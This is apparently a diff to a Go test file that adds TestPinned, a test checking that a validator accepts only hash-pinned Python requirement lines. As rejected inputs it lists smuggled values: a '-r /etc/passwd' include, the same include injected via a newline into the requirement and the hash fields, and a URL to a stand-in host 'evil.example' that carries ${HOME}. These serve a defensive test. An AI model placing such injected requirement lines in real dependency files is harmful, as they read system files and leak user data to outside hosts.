@@ -72,6 +72,23 @@ func TestParseOutputRefuses(t *testing.T) {
 	}
 }
 
+func TestPinned(t *testing.T) {
+	if p := (runtimes.Pinned{Requirement: "demo==1 ; os_name == 'nt'", SHA256: []string{a}}); !pinned(p) {
+		t.Errorf("%q is not taken", p)
+	}
+	for _, p := range []runtimes.Pinned{
+		{Requirement: "demo>=1", SHA256: []string{a}},
+		{Requirement: "-r /etc/passwd", SHA256: []string{a}},
+		{Requirement: "demo==1\n-r /etc/passwd", SHA256: []string{a}},
+		{Requirement: "demo @ https://evil.example/${HOME}", SHA256: []string{a}},
+		{Requirement: "demo==1", SHA256: []string{a, "00\n-r /etc/passwd"}},
+	} {
+		if pinned(p) {
+			t.Errorf("%q is taken", p)
+		}
+	}
+}
+
 func FuzzParseOutput(f *testing.F) {
 	f.Add("demo==1.0 ; python_version < '3' \\\n    --hash=sha256:" + a + "\n")
 	f.Add("a[b]==1!2.post3 --hash=sha256:" + a + " --hash=sha256:" + b)
